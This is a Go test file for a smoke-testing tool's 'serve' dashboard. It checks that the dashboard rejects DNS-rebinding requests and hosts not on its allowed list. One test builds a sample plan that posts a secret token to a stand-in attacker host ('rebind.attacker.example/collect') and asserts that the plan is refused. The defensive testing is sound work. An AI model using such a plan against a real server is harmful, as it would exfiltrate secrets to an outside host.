package main

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// callHost sends a request to serve as a browser on the page of origin
// does: Host is origin's, and the headers say it is same-origin.
func callHost(t *testing.T, method, target, origin, body string) (int, string) {
	t.Helper()
	req, err := http.NewRequest(method, target, strings.NewReader(body))
	require.NoError(t, err)
	o, err := url.Parse(origin)
	require.NoError(t, err)
	req.Host = o.Host
	req.Header.Set("Origin", origin)
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	req.Header.Set("Sec-Fetch-Mode", "cors")
	return sendRequest(t, req)
}

// TestServeRefusesDNSRebinding replays the attack of a page on an
// attacker's name that resolves to serve's loopback address: its requests
// carry that name in Host and look same-origin to serve. With --allow-edit
// --allow-run, the PUT of a plan that posts a secret to the attacker and
// its run are refused, and nothing is stored.
func TestServeRefusesDNSRebinding(t *testing.T) {
	t.Parallel()
	s := startServe(t, map[string]string{"TOK": "the-secret-token"}, "--allow-edit", "--allow-run", "--secret", "TOK")
	base := s.dashboardURL(t)
	port := strings.TrimSuffix(base[strings.LastIndex(base, ":")+1:], "/")
	attacker := "http://rebind.attacker.example:" + port
	steal := "name: steal\nsecrets: [TOK]\nsteps:\n  - post: {url: \"http://rebind.attacker.example:" + port + "/collect\", body: \"${TOK}\"}\n"

	code, body := callHost(t, "PUT", base+"api/plans/steal", attacker, steal)
	require.Equal(t, http.StatusForbidden, code, body)
	require.Contains(t, body, `the host \"rebind.attacker.example:`+port+`\"`)
	require.Contains(t, body, "--allowed-hosts")
	code, body = callHost(t, "POST", base+"api/plans/steal/runs", attacker, "")
	require.Equal(t, http.StatusForbidden, code, body)
	code, body = callHost(t, "GET", base+"api/plans", attacker, "")
	require.Equal(t, http.StatusForbidden, code, body)

	// Nothing was stored; the same requests by serve's own address work.
	code, body = call(t, "GET", base+"api/plans/steal", "")
	require.Equal(t, http.StatusNotFound, code, body)
	safe := "name: safe\nsteps:\n  - get: {url: \"http://127.0.0.1:1/\"}\n"
	code, body = callHost(t, "PUT", base+"api/plans/safe", base, safe)
	require.Equal(t, http.StatusCreated, code, body)
	code, body = callHost(t, "PUT", base+"api/plans/safe", "http://localhost:"+port, safe)
	require.Equal(t, http.StatusOK, code, body)
	require.Equal(t, exitOK, s.stop(t))
}

// TestServeReadOnlyRefusesOtherHosts: a read-only serve hands neither plan
// sources nor results to a page on another name, and answers the names
// --allowed-hosts and --base-url give.
func TestServeReadOnlyRefusesOtherHosts(t *testing.T) {
	t.Parallel()
	target, dir := tickerSetup(t)
	s := startServe(t, nil, "--var", "base="+target.URL,
		"--allowed-hosts", "smoke.internal,.corp.example", "--allowed-hosts", "other.example",
		"--base-url", "https://smoke.example.com/", dir)
	// The listening line's url, not another line's (a check's url, logged
	// at debug level, may come first on a loaded machine).
	listening := strings.TrimPrefix(s.waitLog(t, `"smokex serve: listening" url=http://\S+`), `"smokex serve: listening" url=`)
	port := strings.TrimSuffix(listening[strings.LastIndex(listening, ":")+1:], "/")

	for _, path := range []string{"api/plans/ticker", "api/plans", "api/executions", "events", "status", "", "metrics", "badge/ticker.svg"} {
		code, body := callHost(t, "GET", listening+path, "http://evil.example:"+port, "")
		require.Equal(t, http.StatusForbidden, code, path)
		require.NotContains(t, body, "ticker", path)
	}
	for _, origin := range []string{
		listening, "http://localhost:" + port, "http://[::1]:" + port, "http://app.localhost:" + port,
		"http://smoke.internal:" + port, "http://SMOKE.internal.:" + port, "http://a.corp.example", "http://corp.example",
		"http://other.example:" + port, "https://smoke.example.com",
	} {
		code, body := callHost(t, "GET", listening+"api/plans/ticker", origin, "")
		require.Equal(t, http.StatusOK, code, origin)
		require.Contains(t, body, `"source":`, origin)
	}
	for _, origin := range []string{"http://corp.example.evil:" + port, "http://xcorp.example", "http://smoke.example.com.evil"} {
		code, _ := callHost(t, "GET", listening+"api/plans/ticker", origin, "")
		require.Equal(t, http.StatusForbidden, code, origin)
	}
	require.Equal(t, exitOK, s.stop(t))
}

func TestAllowedHostsFlag(t *testing.T) {
	t.Parallel()
	for _, bad := range []string{"", "a,,b", "http://x", "user@host", "a b"} {
		res := runCLI(t, nil, "", "serve", "--allowed-hosts", bad, "--addr", "")
		require.Equal(t, exitUsage, res.code, bad)
		require.Contains(t, res.stderr, "is not a host name", bad)
	}
}
